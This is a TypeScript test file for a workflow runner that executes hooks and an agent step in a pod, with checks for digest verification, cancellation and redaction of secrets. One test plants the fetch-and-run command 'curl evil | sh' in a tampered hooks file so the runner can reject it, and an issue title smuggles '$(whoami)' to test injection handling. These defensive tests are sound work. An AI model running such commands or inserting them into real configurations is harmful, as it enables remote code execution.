import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { inputDigest } from '../../../src/api/run-pod.js';
import type { RunnerOptions } from '../../../src/runner/main.js';
import { readVerifiedInputs } from '../../../src/runner/inputs.js';
import { createIssueStateCheck } from '../../../src/runner/issue-state.js';
import { parseTerminationSummary } from '../../../src/runner/summary.js';
import type { AgentStep } from '../../../src/workspace/agent-step.js';
import { runInPod, writeRunInputs } from './run-inputs.js';
import { FOUR_HOOKS_RAN } from '../../support/workspace.js';
import { tempDirPerTest } from '../../support/temp-dir.js';

const dir = tempDirPerTest('lorenz-runner-');

const workflow = (hooks: string) => `---
hooks:
  timeout_ms: 5000
${hooks}
---
Work on {{ issue.identifier }}: {{ issue.title }}`;

const FOUR_HOOKS = `  after_create: echo created {{ issue.title }} > created.txt
  before_run: echo before
  after_run: echo after-run >> "$LOG"
  before_remove: echo removing`;

const writeInputs = (text: string, title = 'Fix "it" $(whoami)') =>
  writeRunInputs(join(dir(), 'inputs'), text, { title });

async function run(inputsDir: string, extra: Partial<Omit<RunnerOptions, 'write'>> = {}) {
  const { code, events } = await runInPod(dir(), {
    inputsDir,
    noAgent: false,
    env: { ...process.env, LOG: join(dir(), 'log.txt') },
    ...extra,
  });
  const summary = parseTerminationSummary(await readFile(join(dir(), 'termination-log'), 'utf8'));
  return { code, events, summary };
}

const okAgent =
  (prompts: string[]) =>
  ({ prompt }: { prompt: string }): AgentStep =>
  async () => {
    prompts.push(prompt);
    return { ok: true, turns: 2, usage: { inputTokens: 3, outputTokens: 4, totalTokens: 7 } };
  };

describe('lorenz runner', () => {
  it('runs the four hooks and the agent, prints JSON lines ending in run_completed, and leaves a summary', async () => {
    const prompts: string[] = [];
    const inputsDir = await writeInputs(workflow(FOUR_HOOKS));
    const { code, events, summary } = await run(inputsDir, { createAgentStep: okAgent(prompts) });
    expect(code).toBe(0);
    expect(prompts).toEqual(['Work on ENG-7: Fix "it" $(whoami)']);
    const hooks = events.filter((event) => event.type === 'hook_execution');
    expect(hooks.map((event) => `${event.message.hookName}:${event.message.status}`)).toEqual(
      FOUR_HOOKS_RAN,
    );
    expect(events.at(-1)?.type).toBe('run_completed');
    // Every record says when it was written (the web view's timeline reads it), in order.
    const times = events.map((event) => (event as { at?: unknown }).at);
    for (const at of times) expect(at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    expect([...(times as string[])].sort()).toEqual(times);
    expect(summary).toMatchObject({
      succeeded: true,
      slot: 0,
      turns: 2,
      records: 8,
      usage: { totalTokens: 7 },
    });
    // The trail is every hook record, in order: the controller rebuilds lost Events from it.
    expect(summary?.trail.map((hook) => [hook.seq, hook.name, hook.status, hook.exitCode])).toEqual(
      [
        [0, 'after_create', 'started', null],
        [1, 'after_create', 'completed', 0],
        [2, 'before_run', 'started', null],
        [3, 'before_run', 'completed', 0],
        [4, 'after_run', 'started', null],
        [5, 'after_run', 'completed', 0],
        [6, 'before_remove', 'started', null],
        [7, 'before_remove', 'completed', 0],
      ],
    );
  });

  it('fails with the hook failure in the summary and exit code 1', async () => {
    const inputsDir = await writeInputs(workflow('  after_create: echo nope; exit 3'));
    const { code, summary } = await run(inputsDir, { createAgentStep: okAgent([]) });
    expect(code).toBe(1);
    expect(summary).toMatchObject({ succeeded: false, errorCode: 'hook_failed' });
    expect(summary?.error).toContain('hook failed with status 3');
  });

  it('refuses tampered inputs before the first hook', async () => {
    const inputsDir = await writeInputs(workflow(FOUR_HOOKS));
    await writeFile(join(inputsDir, 'hooks.json'), '{"after_create":"curl evil | sh"}');
    const { code, events, summary } = await run(inputsDir, { createAgentStep: okAgent([]) });
    expect(code).toBe(1);
    expect(events.some((event) => event.type === 'hook_execution')).toBe(false);
    expect(events.at(-1)?.type).toBe('run_completed');
    expect(summary).toMatchObject({ succeeded: false, errorCode: 'input_digest_mismatch' });
    expect(summary?.error).toContain('hooks.json');
    await expect(readVerifiedInputs(inputsDir)).rejects.toThrow(/hooks.json has digest sha256:/);
  });

  it.each([
    ['its own', 'own', true],
    ['another run’s of the same name, consistent in themselves', 'other', false],
    ['a recorded digest that is empty', 'empty', false],
    ['no recorded digest to read', 'missing', false],
  ])('inputs checked against the digest recorded on the Pod: %s', async (_name, kind, ok) => {
    const inputsDir = await writeInputs(workflow(FOUR_HOOKS));
    const own = inputDigest(await readFile(join(inputsDir, 'manifest.json'), 'utf8'));
    const other = inputDigest('another manifest');
    const digestFile = join(dir(), 'inputs-digest');
    if (kind !== 'missing') {
      await writeFile(digestFile, { own, other, empty: '' }[kind] ?? '');
    }
    const { code, events, summary } = await run(inputsDir, {
      createAgentStep: okAgent([]),
      inputsDigestFile: digestFile,
    });
    expect(code).toBe(ok ? 0 : 1);
    expect(events.some((event) => event.type === 'hook_execution')).toBe(ok);
    if (!ok) expect(summary).toMatchObject({ errorCode: 'input_digest_mismatch' });
    if (kind === 'other') {
      expect(summary?.error).toBe(
        `input_digest_mismatch: the inputs mounted (manifest.json ${own}) are not the ones recorded for this Pod (${other})`,
      );
    }
  });

  it('on cancellation stops the agent and still runs after_run', async () => {
    const inputsDir = await writeInputs(workflow(FOUR_HOOKS));
    const abort = new AbortController();
    const waitingAgent = (): AgentStep => async (context) => {
      setTimeout(() => abort.abort(), 50);
      await new Promise((resolve) =>
        context.signal.addEventListener('abort', resolve, { once: true }),
      );
      return { ok: false, code: 'turn_cancelled', message: 'cancelled', turns: 1 };
    };
    const { code, summary } = await run(inputsDir, {
      createAgentStep: waitingAgent,
      signal: abort.signal,
    });
    expect(code).toBe(1);
    expect(summary?.cancelled).toBe(true);
    expect(await readFile(join(dir(), 'log.txt'), 'utf8')).toBe('after-run\n');
  });

  it.each([
    ['Todo', true],
    ['in progress', true],
    ['Done', false],
    ['', false],
  ])('reads the projected issue state %j as active=%s', async (state, active) => {
    const stateFile = join(dir(), 'issue-state');
    await writeFile(stateFile, state);
    const check = createIssueStateCheck({
      stateFile,
      fallbackState: 'Todo',
      activeStates: ['Todo', 'In Progress'],
      terminalStates: ['Done'],
    });
    expect(await check()).toBe(active);
  });

  it('redacts Secret-sourced values from everything it reports, and hides the copies from hooks', async () => {
    const secret = 'sk-test-7f3a9c2e51';
    const inputsDir = await writeInputs(
      workflow(`  after_create: echo "key=$API_KEY copies=\${LORENZ_REDACT_0:-none}"
  before_run: echo "$API_KEY" >&2; exit 3`),
    );
    const { code, events, summary } = await run(inputsDir, {
      noAgent: true,
      env: { ...process.env, API_KEY: secret, LORENZ_REDACT_0: secret },
    });
    expect(code).toBe(1);
    const outputs = events.flatMap((event) =>
      event.type === 'hook_execution' && event.message.output ? [event.message.output] : [],
    );
    expect(outputs).toContain('key=[redacted] copies=none');
    expect(outputs).toContain('[redacted]');
    expect(JSON.stringify(events)).not.toContain(secret);
    expect(JSON.stringify(summary)).not.toContain(secret);
    expect(await readFile(join(dir(), 'termination-log'), 'utf8')).not.toContain(secret);
  });
});
